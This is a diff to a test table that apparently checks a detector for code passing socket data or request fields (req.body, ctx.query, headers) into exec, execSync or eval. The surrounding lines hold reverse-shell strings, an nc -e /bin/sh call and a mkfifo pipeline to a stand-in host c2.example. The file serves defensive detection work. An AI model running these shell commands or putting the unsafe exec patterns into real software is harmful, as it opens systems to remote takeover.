@@ -117,6 +117,14 @@ testTable({
       ['orders of a process', "s.on('data', (d) => { const p = cp.exec(d.toString()); })"],
       ['orders beside an expression', "const re = /x/; s.on('data', (d) => (re.test(d), sh.exec(d)))"],
       ['orders behind a division', "s.on('data', (d) => 1 / 2 / g.exec(d))"],
+      ...['req.body', 'req.params', 'request.headers', 'request.query', 'request.body', 'ctx.query'].map(
+        (name): [string, string] => [`orders of ${name}`, `execSync(${name}.run)`],
+      ),
+      ['orders of a framework', "eval(ctx.get('x-cmd') + ctx.request.url)"],
+      ...['data', 'message', 'command', 'exec', 'shell', 'run', 'task', 'order', 'eval'].flatMap((name) => [
+        [`orders by ${name}`, `s.on('${name}', (c) => exec(c))`] as [string, string],
+        [`orders by ${name}, in other quotes`, `s.on("${name}", (c) => exec(c))`] as [string, string],
+      ]),
       ['orders of a query', 'const re = /x/; cp.exec(req.query.run)'],
       ['nc', "exec('nc -e /bin/sh c2.example 4444')"],
       ['fifo', "exec('mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc c2.example 1 > /tmp/f')"],
